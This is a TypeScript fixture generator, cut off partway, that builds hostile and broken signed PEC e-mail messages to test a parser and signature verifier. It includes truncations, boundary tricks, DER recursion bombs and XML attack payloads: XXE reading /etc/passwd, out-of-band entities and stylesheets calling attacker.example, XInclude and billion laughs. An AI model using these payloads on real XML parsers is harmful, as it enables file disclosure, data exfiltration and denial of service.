// Generates fixtures/malformed/: hostile and broken variants of small synthetic, signed PEC
// messages (test PKI), each with its expected outcome in manifest.json. Run with
//   npx tsx scripts/make-malformed.ts
// Deterministic for a given test PKI (fixed boundaries, fixed signing time, PKCS#1 v1.5). The
// test root the signatures chain to is copied next to the files (trust-root.pem), so the
// expectations hold even after fixtures/pki is regenerated. Expected codes are written by hand
// from what each input is, never read back from the library.
import { mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { resolve } from 'node:path';
import * as pkijs from 'pkijs';
import { writeEntity } from '../src/mime/write.js';
import {
  assemble,
  b64,
  cat,
  enc,
  forgerSigner,
  latin1,
  outerFields,
  pkiPem,
  reframe,
  signaturePart,
  signEntity,
  syntheticPec,
} from '../test/helpers/synthetic.js';

const OUT = resolve(import.meta.dirname, '../fixtures/malformed');

/** What parsePec and verifyPec must do with a file (issue lists: codes that must be present). */
interface Expect {
  parse: { throws: string } | { kind: string; issues: string[] };
  verify: { valid: boolean; issues: string[] };
}

interface Case {
  file: string;
  category: string;
  description: string;
  bytes: Uint8Array;
  expect: Expect;
}

const cases: Case[] = [];
function add(
  file: string,
  category: string,
  description: string,
  bytes: Uint8Array | string,
  expect: Expect,
): void {
  if (cases.some((c) => c.file === file)) throw new Error(`duplicate fixture ${file}`);
  cases.push({ file, category, description, bytes: typeof bytes === 'string' ? enc(bytes) : bytes, expect });
}

/** parsePec throws `code`; verifyPec reports it as an error issue. */
const throws = (code: string): Expect => ({
  parse: { throws: code },
  verify: { valid: false, issues: [code] },
});
/** parsePec returns `kind` with `parseIssues`; verifyPec adds `verifyIssues`. */
const reports = (
  kind: string,
  parseIssues: string[],
  verifyIssues: string[] = [],
  valid = false,
): Expect => ({
  parse: { kind, issues: parseIssues },
  verify: { valid, issues: [...new Set([...parseIssues, ...verifyIssues])] },
});

const CRLF = '\r\n';

function indexOfText(b: Uint8Array, needle: string, from = 0): number {
  const i = latin1(b).indexOf(needle, from);
  if (i < 0) throw new Error(`marker not found: ${needle}`);
  return i;
}

// --- DER surgery -------------------------------------------------------------------------------

/** Offset of the value and the value length of the TLV at `at`. */
function tlv(d: Uint8Array, at: number): { tag: number; hdr: number; len: number; end: number } {
  let len = d[at + 1]!;
  let hdr = 2;
  if (len & 0x80) {
    const n = len & 0x7f;
    len = 0;
    for (let i = 0; i < n; i++) len = len * 256 + d[at + 2 + i]!;
    hdr += n;
  }
  return { tag: d[at]!, hdr, len, end: at + hdr + len };
}

function derLength(n: number): number[] {
  if (n < 0x80) return [n];
  const bytes: number[] = [];
  for (let v = n; v > 0; v = Math.floor(v / 256)) bytes.unshift(v & 0xff);
  return [0x80 | bytes.length, ...bytes];
}

/** Rewrites the TLV at `at` with a new length header (value bytes unchanged). */
function withLengthHeader(d: Uint8Array, at: number, header: number[]): Uint8Array {
  const t = tlv(d, at);
  return cat(d.subarray(0, at), Uint8Array.from([t.tag, ...header]), d.subarray(at + t.hdr));
}

/** The children offsets of the constructed TLV at `at`. */
function childrenAt(d: Uint8Array, at: number): number[] {
  const t = tlv(d, at);
  const out: number[] = [];
  for (let p = at + t.hdr; p < t.end; p = tlv(d, p).end) out.push(p);
  return out;
}

/** Offsets in a CMS: ContentInfo → [0] → SignedData → its fields. */
function cmsMap(d: Uint8Array) {
  const [, explicit] = childrenAt(d, 0);
  const sd = childrenAt(d, explicit!)[0]!;
  const fields = childrenAt(d, sd);
  const certs = fields.find((p) => d[p] === 0xa0)!;
  const infos = fields[fields.length - 1]!;
  const info = childrenAt(d, infos)[0]!;
  const infoFields = childrenAt(d, info);
  const sigValue = infoFields.find((p, i) => i > 2 && d[p] === 0x04)!;
  return { explicit: explicit!, sd, certs, firstCert: childrenAt(d, certs)[0]!, info, sigValue };
}

/** The CMS with BER indefinite lengths on ContentInfo and [0]: the fast DER reader declines it. */
function berOuter(d: Uint8Array): Uint8Array {
  const m = cmsMap(d);
  const sd = d.subarray(m.sd, tlv(d, m.sd).end);
  const oidTlv = d.subarray(childrenAt(d, 0)[0]!, m.explicit);
  return cat(Uint8Array.from([0x30, 0x80]), oidTlv, Uint8Array.from([0xa0, 0x80]), sd, new Uint8Array(4));
}

/** A copy of `d` with the byte at `indexOf(marker) + offset` set to `value`. */
function patchAfter(d: Uint8Array, marker: number[], offset: number, value: number): Uint8Array {
  const at = latin1(d).indexOf(String.fromCharCode(...marker));
  if (at < 0) throw new Error(`DER marker not found: ${marker.map((b) => b.toString(16)).join(' ')}`);
  const out = d.slice();
  out[at + marker.length + offset] = value;
  return out;
}

// --- the cases ---------------------------------------------------------------------------------

async function main(): Promise<void> {
  const A = await syntheticPec({ kind: 'accettazione' });
  const E = await syntheticPec({ kind: 'posta-certificata' });
  const fieldsA = outerFields(A);
  const sigA = signaturePart(b64(A.der));
  const withSig = (der: Uint8Array, close = true): Uint8Array =>
    assemble({
      fields: fieldsA,
      boundary: A.outerBoundary,
      parts: [A.signed, signaturePart(b64(der))],
      close,
    });

  // Sanity: hand assembly reproduces the writer's bytes for the intact message.
  if (latin1(withSig(A.der)) !== latin1(A.bytes)) throw new Error('assemble() does not reproduce the writer');

  // ---- truncation ----
  const cut = (at: number) => A.bytes.slice(0, at);
  const at = (marker: string, plus = 0) => indexOfText(A.bytes, marker) + plus;
  add(
    'truncated-in-subject-header.eml',
    'truncation',
    'Cut in the middle of the Subject header: headers only, before X-Ricevuta and Content-Type.',
    cut(at('Subject:', 20)),
    reports('non-pec', ['MIME_DEFECT', 'NOT_PEC']),
  );
  add(
    'truncated-in-content-type.eml',
    'truncation',
    'Cut inside the folded Content-Type: multipart/signed without its boundary parameter.',
    cut(at('micalg=')),
    reports('accettazione', ['MIME_DEFECT', 'PEC_NOT_SIGNED', 'DATICERT_MISSING']),
  );
  add(
    'truncated-after-header-block.eml',
    'truncation',
    'Cut right after the empty line that ends the top-level headers: no body at all.',
    cut(at('\r\n\r\n', 4)),
    reports('accettazione', ['MIME_DEFECT', 'PEC_NOT_SIGNED', 'DATICERT_MISSING']),
  );
  add(
    'truncated-in-preamble.eml',
    'truncation',
    'Cut inside the preamble, before the first delimiter.',
    cut(at('This is an S/MIME', 12)),
    reports('accettazione', ['MIME_DEFECT', 'PEC_NOT_SIGNED', 'DATICERT_MISSING']),
  );
  add(
    'truncated-after-first-delimiter.eml',
    'truncation',
    'Cut right after the first delimiter line: an empty first part, no signature part.',
    cut(at(`--${A.outerBoundary}\r\n`, A.outerBoundary.length + 4)),
    reports('accettazione', ['SIGNATURE_PART_MISSING']),
  );
  add(
    'truncated-in-signed-headers.eml',
    'truncation',
    'Cut inside the header block of the signed part.',
    cut(at('Content-Type: multipart/mixed', 20)),
    reports('accettazione', ['SIGNATURE_PART_MISSING']),
  );
  add(
    'truncated-in-daticert.eml',
    'truncation',
    'Cut inside the base64 of daticert.xml (inside the signed part).',
    cut(at('Content-Disposition: inline; filename="daticert.xml"', 200)),
    reports('accettazione', ['SIGNATURE_PART_MISSING']),
  );
  const second = indexOfText(A.bytes, `\r\n--${A.outerBoundary}\r\n`, at(`--${A.outerBoundary}`) + 10);
  add(
    'truncated-after-second-delimiter.eml',
    'truncation',
    'Cut right after the delimiter that opens the signature part: the signature part is empty.',
    cut(second + A.outerBoundary.length + 6),
    reports('accettazione', ['SIGNATURE_PART_MISSING']),
  );
  add(
    'truncated-in-signature-headers.eml',
    'truncation',
    'Cut inside the header block of the signature part.',
    cut(at('application/pkcs7-signature; name=', 12)),
    reports('accettazione', ['SIGNATURE_PART_MISSING']),
  );
  const sigBody = at('filename="smime.p7s"\r\n\r\n', 24);
  const close = at(`--${A.outerBoundary}--`);
  for (const pct of [1, 10, 50, 90, 99]) {
    add(
      `truncated-in-signature-base64-${pct}pct.eml`,
      'truncation',
      `Cut ${pct}% of the way into the base64 of the signature (no close delimiter).`,
      cut(sigBody + Math.floor(((close - sigBody) * pct) / 100)),
      reports('accettazione', ['MIME_DEFECT'], ['SIGNATURE_UNREADABLE']),
    );
  }
  add(
    'truncated-in-close-delimiter.eml',
    'truncation',
    'Cut inside the close delimiter: the partial line "--boundary-" becomes signature text.',
    cut(close + A.outerBoundary.length + 3),
    reports('accettazione', ['MIME_DEFECT', 'SIGNATURE_UNREADABLE']),
  );
  for (const n of [2, 40, 400, 1200, 2000, A.der.length - 1]) {
    add(
      `truncated-der-at-${n}.eml`,
      'truncation',
      `The CMS DER cut to its first ${n} bytes (of ${A.der.length}), re-encoded as clean base64.`,
      withSig(A.der.slice(0, n)),
      reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
    );
  }

  // ---- boundary games ----
  {
    // The writer refuses a boundary found anywhere in the content: sign, then re-frame by hand.
    const s = await syntheticPec({
      outerBoundary: 'tmp-outer',
      text: `Testo con il confine --${'outer-boundary-0001'} a meta' riga e outer-boundary-0001-- pure.\n`,
    });
    add(
      'boundary-text-inside-content.eml',
      'boundary',
      'The outer boundary string occurs inside the signed text, but never at the start of a line: legal, valid.',
      assemble({
        fields: outerFields(s),
        boundary: 'outer-boundary-0001',
        parts: [s.signed, signaturePart(b64(s.der))],
      }),
      reports('accettazione', [], [], true),
    );
  }
  {
    // The signed text holds a line that is exactly the outer delimiter (RFC 2046 forbids it).
    const s = await syntheticPec({
      outerBoundary: 'tmp-outer',
      text: 'prima\n--outer-boundary-0001\nContent-Type: text/plain\n\ndopo\n',
    });
    const bytes = assemble({
      fields: outerFields(s),
      boundary: 'outer-boundary-0001',
      parts: [s.signed, signaturePart(b64(s.der))],
    });
    add(
      'boundary-delimiter-inside-signed-content.eml',
      'boundary',
      'A line of the signed content is the outer delimiter: a forward reader sees three parts.',
      bytes,
      reports('accettazione', ['MIME_EXTRA_PARTS']),
    );
  }
  {
    const s = await syntheticPec({ innerBoundary: 'pec-b-inner', outerBoundary: 'tmp-outer' });
    add(
      'boundary-inner-extends-outer.eml',
      'boundary',
      'The inner boundary starts with the outer one ("pec-b" / "pec-b-inner"): legal, valid.',
      reframe(s, 'pec-b'),
      reports('accettazione', [], [], true),
    );
  }
  {
    const s = await syntheticPec({ innerBoundary: 'pec-b', outerBoundary: 'tmp-outer' });
    add(
      'boundary-outer-extends-inner.eml',
      'boundary',
      'The outer boundary starts with the inner one ("pec-b-outer" / "pec-b"): legal, valid.',
      reframe(s, 'pec-b-outer'),
      reports('accettazione', [], [], true),
    );
  }
  {
    // Inner "pec-b", outer "pec-b--": the inner close delimiter "--pec-b--" is an outer delimiter.
    const s = await syntheticPec({ innerBoundary: 'pec-b' });
    const bytes = assemble({
      fields: outerFields(s),
      boundary: 'pec-b--',
      parts: [s.signed, signaturePart(b64(s.der))],
    });
    add(
      'boundary-inner-close-is-outer-delimiter.eml',
      'boundary',
      'Outer boundary "pec-b--", inner "pec-b": the inner close delimiter line is also an outer delimiter.',
      bytes,
      reports('accettazione', ['MIME_EXTRA_PARTS']),
    );
  }
  add(
    'boundary-missing-close-delimiter.eml',
    'boundary',
    'The close delimiter is missing (OpenSSL refuses the message); the signed part is intact: reported as a MIME defect.',
    withSig(A.der, false),
    reports('accettazione', ['MIME_DEFECT'], [], true),
  );
  {
    const s = await syntheticPec({ innerBoundary: 'same-boundary', outerBoundary: 'tmp-outer' });
    add(
      'boundary-duplicate-inner-equals-outer.eml',
      'boundary',
      'The signed multipart/mixed uses the same boundary as the multipart/signed around it.',
      assemble({
        fields: outerFields(s),
        boundary: 'same-boundary',
        parts: [s.signed, signaturePart(b64(s.der))],
      }),
      reports('accettazione', ['MIME_EXTRA_PARTS']),
    );
  }
  add(
    'boundary-empty.eml',
    'boundary',
    'boundary="" on the multipart/signed.',
    assemble({ fields: fieldsA, boundary: '', parts: [A.signed, sigA] }),
    reports('accettazione', ['MIME_DEFECT', 'PEC_NOT_SIGNED']),
  );
  add(
    'boundary-unquoted.eml',
    'boundary',
    'The boundary parameter is an unquoted token: legal, valid.',
    assemble({
      fields: fieldsA,
      boundary: A.outerBoundary,
      boundaryParam: `boundary=${A.outerBoundary}`,
      parts: [A.signed, sigA],
    }),
    reports('accettazione', [], [], true),
  );
  {
    const odd = "a'()+_,-./:=? b";
    add(
      'boundary-quoted-specials.eml',
      'boundary',
      'A quoted boundary with every special character RFC 2046 allows (and a space): legal, valid.',
      assemble({
        fields: fieldsA,
        boundary: odd,
        boundaryParam: `boundary="${odd}"`,
        parts: [A.signed, sigA],
      }),
      reports('accettazione', [], [], true),
    );
  }
  add(
    'boundary-transport-padding.eml',
    'boundary',
    'Spaces and tabs after every delimiter (RFC 2046 transport padding): legal, valid.',
    assemble({ fields: fieldsA, boundary: A.outerBoundary, parts: [A.signed, sigA], padding: ' \t ' }),
    reports('accettazione', [], [], true),
  );
  add(
    'boundary-with-line-break-rfc2231.eml',
    'boundary',
    'An RFC 2231 boundary that decodes to CR LF: refused rather than searched for.',
    assemble({
      fields: fieldsA,
      boundary: A.outerBoundary,
      boundaryParam: `boundary*=%0D%0A${A.outerBoundary}`,
      parts: [A.signed, sigA],
    }),
    reports('accettazione', ['MIME_DEFECT', 'PEC_NOT_SIGNED']),
  );
  {
    // O(n·m) trap for a naive delimiter search: a 16 KB boundary of dashes over 256 KB of dashes
    // (4·10⁹ byte comparisons for the search this library used before).
    const boundary = `${'-'.repeat(16384)}x`;
    const bytes = cat(
      fieldsA,
      `Content-Type: multipart/signed; protocol="application/pkcs7-signature";${CRLF} boundary="${boundary}"${CRLF}${CRLF}`,
      '-'.repeat(256 * 1024),
      CRLF,
    );
    add(
      'boundary-16k-dashes-over-dashes.eml',
      'boundary',
      'A 16 KB boundary of dashes over a 256 KB body of dashes (quadratic for a naive search).',
      bytes,
      reports('accettazione', ['MIME_DEFECT', 'PEC_NOT_SIGNED']),
    );
  }
  add(
    'boundary-no-delimiter-at-all.eml',
    'boundary',
    'multipart/signed whose body never uses its boundary.',
    assemble({ fields: fieldsA, boundary: 'declared', parts: [] }).subarray(0, -14),
    reports('accettazione', ['MIME_DEFECT', 'PEC_NOT_SIGNED']),
  );

  // ---- structure: extra and nested signature parts ----
  add(
    'second-signature-part.eml',
    'structure',
    'Two signature parts after the signed part.',
    assemble({ fields: fieldsA, boundary: A.outerBoundary, parts: [A.signed, sigA, sigA] }),
    reports('accettazione', ['MIME_EXTRA_PARTS']),
  );
  add(
    'extra-part-after-signature.eml',
    'structure',
    'A text part after the signature part (the last part is taken as the signature).',
    assemble({
      fields: fieldsA,
      boundary: A.outerBoundary,
      parts: [A.signed, sigA, `Content-Type: text/plain${CRLF}${CRLF}Aggiunto dopo la firma.`],
    }),
    reports('accettazione', ['MIME_EXTRA_PARTS'], ['SIGNATURE_UNREADABLE']),
  );
  {
    const forged = `Content-Type: application/xml; name="daticert.xml"${CRLF}Content-Disposition: inline; filename="daticert.xml"${CRLF}${CRLF}<postacert tipo="avvenuta-consegna" errore="nessuno"/>`;
    add(
      'unsigned-part-before-signature.eml',
      'structure',
      'A forged daticert part inserted between the signed part and the signature.',
      assemble({ fields: fieldsA, boundary: A.outerBoundary, parts: [A.signed, forged, sigA] }),
      reports('accettazione', ['MIME_EXTRA_PARTS'], ['SIGNATURE_DIGEST_MISMATCH']),
    );
  }
  {
    // A whole signed PEC as the first part of another multipart/signed, signed again (validly).
    const inner = cat(
      latin1(A.bytes).replace(/^(?:(?!Content-Type:|MIME-Version:)[^\r]*\r\n(?:[ \t][^\r]*\r\n)*)*/i, ''),
    );
    const der = await signEntity(inner);
    add(
      'nested-multipart-signed.eml',
      'structure',
      'The signed part is itself a complete signed PEC, signed again by the provider: all data shown is covered by the outer signature (OpenSSL agrees).',
      assemble({ fields: fieldsA, boundary: 'outer-outer', parts: [inner, signaturePart(b64(der))] }),
      reports('accettazione', [], [], true),
    );
    add(
      'nested-multipart-signed-bogus-outer.eml',
      'structure',
      'A complete signed PEC inside a multipart/signed whose own signature is a placeholder.',
      assemble({
        fields: fieldsA,
        boundary: 'outer-outer',
        parts: [inner, signaturePart('U0lHTkFUVVJF')],
      }),
      reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
    );
  }
  add(
    'signature-protocol-pgp.eml',
    'structure',
    'multipart/signed with protocol="application/pgp-signature".',
    assemble({
      fields: fieldsA,
      boundary: A.outerBoundary,
      protocol: 'application/pgp-signature',
      parts: [A.signed, sigA],
    }),
    reports('accettazione', ['SIGNATURE_PROTOCOL']),
  );
  add(
    'signature-empty-body.eml',
    'structure',
    'The signature part is present and closed but empty.',
    assemble({ fields: fieldsA, boundary: A.outerBoundary, parts: [A.signed, signaturePart('')] }),
    reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
  );
  add(
    'signature-binary-garbage.eml',
    'structure',
    'The signature part declares base64 but holds raw binary bytes.',
    assemble({
      fields: fieldsA,
      boundary: A.outerBoundary,
      parts: [
        A.signed,
        cat(
          signaturePart(''),
          Uint8Array.from({ length: 300 }, (_, i) => (i * 37 + 11) & 0xff),
        ),
      ],
    }),
    reports('accettazione', ['SIGNATURE_UNREADABLE']),
  );
  add(
    'signature-binary-cte-random.eml',
    'structure',
    'Content-Transfer-Encoding: binary with bytes that are not DER.',
    assemble({
      fields: fieldsA,
      boundary: A.outerBoundary,
      parts: [
        A.signed,
        cat(
          signaturePart('', 'binary'),
          Uint8Array.from({ length: 300 }, (_, i) => (i * 91 + 3) & 0xff),
        ),
      ],
    }),
    reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
  );
  add(
    'pec-headers-not-signed.eml',
    'structure',
    'X-Ricevuta and a daticert.xml in a plain multipart/mixed: no signature at all.',
    cat(fieldsA, latin1(A.signed)),
    reports('accettazione', ['PEC_NOT_SIGNED']),
  );

  // ---- DER ----
  const d = A.der;
  const m = cmsMap(d);
  {
    const t = tlv(d, 0);
    add(
      'der-outer-length-too-long.eml',
      'der',
      'The ContentInfo SEQUENCE claims one byte more than there is.',
      withSig(
        withLengthHeader(
          d,
          0,
          derLength(t.len + 1).length === t.hdr - 1
            ? derLength(t.len + 1)
            : [0x82, ...derLength(t.len + 1).slice(1)],
        ),
      ),
      reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
    );
    add(
      'der-outer-length-too-short.eml',
      'der',
      'The ContentInfo SEQUENCE claims ten bytes less than its content.',
      withSig(withLengthHeader(d, 0, [0x82, ((t.len - 10) >> 8) & 0xff, (t.len - 10) & 0xff])),
      reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
    );
    const c = tlv(d, m.firstCert);
    add(
      'der-certificate-length-wrong.eml',
      'der',
      'The first embedded certificate claims 7 bytes more than it has.',
      withSig(withLengthHeader(d, m.firstCert, [0x82, ((c.len + 7) >> 8) & 0xff, (c.len + 7) & 0xff])),
      reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
    );
    add(
      'der-huge-octet-string-length.eml',
      'der',
      'The signature value OCTET STRING claims 2 GiB (0x847fffffff).',
      withSig(withLengthHeader(d, m.sigValue, [0x84, 0x7f, 0xff, 0xff, 0xff])),
      reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
    );
    add(
      'der-huge-outer-length.eml',
      'der',
      'The ContentInfo SEQUENCE claims 4 GiB − 1 (0x84ffffffff).',
      withSig(withLengthHeader(d, 0, [0x84, 0xff, 0xff, 0xff, 0xff])),
      reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
    );
    add(
      'der-length-of-length-overlong.eml',
      'der',
      'A length field of 126 length bytes (0xfe…).',
      withSig(cat(Uint8Array.from([0x30, 0xfe, ...new Array(126).fill(0xff)]), d.subarray(t.hdr))),
      reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
    );
    // BER: the same SignedData with indefinite lengths on the two outer layers (legal BER).
    const indefinite = berOuter(d);
    add(
      'ber-indefinite-lengths.eml',
      'der',
      'The CMS outer layers re-encoded with BER indefinite lengths (legal BER; the signature still verifies).',
      withSig(indefinite),
      reports('accettazione', [], [], true),
    );
    add(
      'ber-indefinite-unterminated.eml',
      'der',
      'Indefinite lengths without the end-of-contents octets.',
      withSig(indefinite.subarray(0, indefinite.length - 4)),
      reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
    );
    const deep = new Uint8Array(2 * 40000);
    for (let i = 0; i < deep.length; i += 2) {
      deep[i] = 0x30;
      deep[i + 1] = 0x80;
    }
    add(
      'ber-deep-indefinite-nesting.eml',
      'der',
      '40,000 nested indefinite-length SEQUENCEs (a recursion bomb for a recursive decoder).',
      withSig(deep),
      reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
    );
    const enveloped = d.slice();
    const oidAt = childrenAt(d, 0)[0]!;
    enveloped[oidAt + 2 + 8] = 0x03; // 1.2.840.113549.1.7.2 (signedData) → .7.3 (envelopedData)
    add(
      'cms-not-signed-data.eml',
      'der',
      'The ContentInfo says envelopedData instead of signedData.',
      withSig(enveloped),
      reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
    );
    add(
      'der-pseudo-random.eml',
      'der',
      '2,000 pseudo-random bytes in place of the CMS.',
      withSig(Uint8Array.from({ length: 2000 }, (_, i) => (i * 7919 + (i >> 3) * 31) & 0xff)),
      reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
    );
  }
  {
    const ca = pkijs.Certificate.fromBER(pemDer(pkiPem('pec-ca.cert.pem')));
    const many = await syntheticPec({ chain: new Array(40).fill(ca) });
    add(
      'cms-41-certificates.eml',
      'limits',
      'A CMS carrying 41 certificates (the signer and 40 copies of its CA): above maxCertificates (32).',
      many.bytes,
      reports('accettazione', [], ['LIMIT_EXCEEDED']),
    );
  }

  // ---- findings of the fuzzer and of the property tests (each one crashed verifyPec) ----
  {
    // extnID subjectKeyIdentifier, then the extnValue OCTET STRING header: the inner OCTET STRING
    // (04 14 …) becomes a GeneralizedTime (18 14 …) of 20 non-digit bytes. pkijs decodes extension
    // values lazily and asn1js threw "Wrong input string for conversion" from the getter.
    const badSki = patchAfter(A.der, [0x06, 0x03, 0x55, 0x1d, 0x0e, 0x04, 0x16], 0, 0x18);
    add(
      'fuzz-certificate-extension-bad-time.eml',
      'fuzz',
      'jsfuzz finding: the signer certificate SKI extension holds a GeneralizedTime of garbage (a plain Error from pkijs lazy extension decoding).',
      withSig(badSki),
      reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
    );
    add(
      'fuzz-certificate-extension-bad-time-ber.eml',
      'fuzz',
      'The same certificate in a BER-encoded CMS, read by the general (pkijs) path.',
      withSig(berOuter(badSki)),
      reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
    );
    // signingTime (1.2.840.113549.1.9.5) SET { UTCTime "250314102030Z" } → SET { GeneralizedTime
    // "x50314102030Z" }: asn1js.fromBER threw outside any guard on the pkijs path (the CMS is BER,
    // so the fast DER reader declines it).
    const signingTime = [0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x09, 0x05, 0x31, 0x0f];
    const badTime = patchAfter(patchAfter(A.der, signingTime, 0, 0x18), signingTime, 2, 0x78);
    add(
      'property-signing-time-bad-generalized-time.eml',
      'fuzz',
      'fast-check finding (FC_SEED=1): a BER CMS whose signingTime is a GeneralizedTime that is not a time (a plain Error from asn1js.fromBER).',
      withSig(berOuter(badTime)),
      reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
    );
  }

  {
    // signingTime SET { UTCTime } (31 0f 17 …) → an empty SET followed by a stray element
    // (31 00 d7 …): the lengths still agree, pkijs leaves the attribute's `values` undefined and
    // reading values[0] threw a TypeError.
    const signingTime = [0x06, 0x09, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x09, 0x05, 0x31];
    const emptySet = patchAfter(patchAfter(A.der, signingTime, 0, 0x00), signingTime, 1, 0xd7);
    add(
      'fuzz-signed-attribute-without-values.eml',
      'fuzz',
      'jsfuzz finding: the signingTime attribute has an empty SET and a stray element (pkijs left its values undefined; an attribute must have one value and two fields: CMS_MALFORMED).',
      withSig(emptySet),
      reports('accettazione', [], ['SIGNATURE_UNREADABLE']),
    );
  }

  // ---- daticert.xml (signed, hostile XML) ----
  const xml = (body: string) => syntheticPec({ daticertXml: enc(body) });
  const DATICERT = latin1(A.daticert);
  const rest = DATICERT.replace(/^<\?xml[^>]*>\r\n/, '');
  const hostileXml: [string, string, string][] = [
    [
      'daticert-doctype-system.eml',
      'A DOCTYPE naming the DTD by SYSTEM identifier.',
      `<?xml version="1.0"?>\r\n<!DOCTYPE postacert SYSTEM "daticert.dtd">\r\n${rest}`,
    ],
    [
      'daticert-internal-entity.eml',
      'An internal ENTITY declaration used in oggetto.',
      `<?xml version="1.0"?>\r\n<!DOCTYPE postacert [<!ENTITY o "Fattura falsa">]>\r\n${rest.replace(/<oggetto>[^<]*</, '<oggetto>&o;<')}`,
    ],
    [
      'daticert-billion-laughs.eml',
      'The billion laughs entity expansion bomb.',
      `<?xml version="1.0"?>\r\n<!DOCTYPE postacert [\r\n<!ENTITY l0 "ha">\r\n${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('\r\n')}\r\n]>\r\n${rest.replace(/<oggetto>[^<]*</, '<oggetto>&l9;<')}`,
    ],
    [
      'daticert-external-entity.eml',
      'An external SYSTEM entity (XXE) pointing at /etc/passwd.',
      `<?xml version="1.0"?>\r\n<!DOCTYPE postacert [<!ENTITY x SYSTEM "file:///etc/passwd">]>\r\n${rest.replace(/<oggetto>[^<]*</, '<oggetto>&x;<')}`,
    ],
    [
      'daticert-parameter-entity.eml',
      'An external parameter entity (out-of-band XXE).',
      `<?xml version="1.0"?>\r\n<!DOCTYPE postacert [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>\r\n${rest}`,
    ],
    [
      'daticert-xinclude.eml',
      'An XInclude of a local file.',
      rest.replace(
        /<oggetto>[^<]*<\/oggetto>/,
        '<oggetto><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></oggetto>',
      ),
    ],
    [
      'daticert-stylesheet.eml',
      'An xml-stylesheet processing instruction pointing elsewhere.',
      `<?xml version="1.0"?>\r\n<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>\r\n${rest}`,
    ],
  ];
  for (const [file, description, body] of hostileXml) {
    add(file, 'xml', description, (await xml(body)).bytes, reports('accettazione', ['DATICERT_UNREADABLE']));
  }
  add(
    'daticert-not-well-formed.eml',
    'xml',
    'daticert.xml with an unclosed element.',
    (await xml(rest.replace('</intestazione>', ''))).bytes,
    reports('accettazione', ['DATICERT_UNREADABLE']),
  );
  add(
    'daticert-deep-elements.eml',
    'xml',
    '30,000 nested unknown elements inside <dati> (a recursion bomb for a recursive tree builder): skipped with a warning.',
    (await xml(rest.replace('<dati>', `<dati>${'<x>'.repeat(30000)}${'</x>'.repeat(30000)}`))).bytes,
    reports('accettazione', ['DATICERT_UNKNOWN_ELEMENT'], [], true),
  );
  add(
    'daticert-over-1mib.eml',
    'limits',
    'A signed daticert.xml of 1 MiB + 1 KiB (padded with a comment): above maxDaticertBytes.',
    (await xml(rest.replace('<dati>', `<dati><!--${' '.repeat(1024 * 1024 + 1024)}-->`))).bytes,
    throws('LIMIT_EXCEEDED'),
  );

  // ---- header encodings, NUL bytes, line endings ----
  {
    const subject8 = cat('Subject: ACCETTAZIONE: Fattura ', enc('\xc3\xa8 pronta \xe8 \xff\xfe'), CRLF);
    const bytes = cat(
      latin1(A.bytes).slice(0, at('Subject:')),
      subject8,
      A.bytes.subarray(indexOfText(A.bytes, '\r\n', at('Subject:')) + 2),
    );
    add(
      'headers-8bit.eml',
      'encoding',
      'Raw 8-bit bytes (UTF-8, latin1 and invalid) in the unsigned Subject: decoded for display, reported as a mismatch.',
      bytes,
      reports('accettazione', ['SUBJECT_MISMATCH'], [], true),
    );
    const utf7 = latin1(A.bytes).replace(
      /Subject: [^\r]*/,
      'Subject: =?utf-7?Q?ACCETTAZIONE:_Fattura_+AOg-_12/2025?= +AOgA6ADo-',
    );
    add(
      'headers-utf7.eml',
      'encoding',
      'A UTF-7 encoded-word and raw UTF-7 in the unsigned Subject.',
      utf7,
      reports('accettazione', ['SUBJECT_MISMATCH'], [], true),
    );
    const nulHeaders = latin1(A.bytes).replace(
      'X-Riferimento-Message-ID',
      'X-Nul\0Name: a\r\nX-Nul-Value: a\0b\0c\r\nX-Riferimento-Message-ID',
    );
    add(
      'nul-in-headers.eml',
      'encoding',
      'NUL bytes in an unsigned header name and value (the bad field is skipped).',
      nulHeaders,
      reports('accettazione', [], [], true),
    );
    const nulSigned = A.bytes.slice();
    nulSigned[at('Ricevuta di accettazione', 3)] = 0;
    add(
      'nul-in-signed-content.eml',
      'encoding',
      'One byte of the signed text replaced with NUL.',
      nulSigned,
      reports('accettazione', [], ['SIGNATURE_DIGEST_MISMATCH']),
    );
    const nulSig = A.bytes.slice();
    nulSig[sigBody + 100] = 0;
    add(
      'nul-in-signature-base64.eml',
      'encoding',
      'A NUL byte inside the base64 of the signature.',
      nulSig,
      reports('accettazione', ['SIGNATURE_UNREADABLE']),
    );
    add(
      'all-nul.eml',
      'encoding',
      '64 KiB of NUL bytes.',
      new Uint8Array(65536),
      reports('non-pec', ['INPUT_EMPTY']),
    );
    add('empty.eml', 'encoding', 'An empty file.', new Uint8Array(0), reports('non-pec', ['INPUT_EMPTY']));
    add(
      'line-endings-lf-only.eml',
      'line-endings',
      'The whole message stored with LF line endings: the signature matches the CRLF form.',
      latin1(A.bytes).replace(/\r\n/g, '\n'),
      reports('accettazione', [], ['SIGNATURE_CANONICALIZED'], true),
    );
    const text = latin1(A.bytes);
    const split = text.indexOf('--inner-boundary-0001');
    add(
      'line-endings-mixed.eml',
      'line-endings',
      'CRLF outer headers, LF inside the signed part.',
      text.slice(0, split) + text.slice(split).replace(/\r\n/g, '\n'),
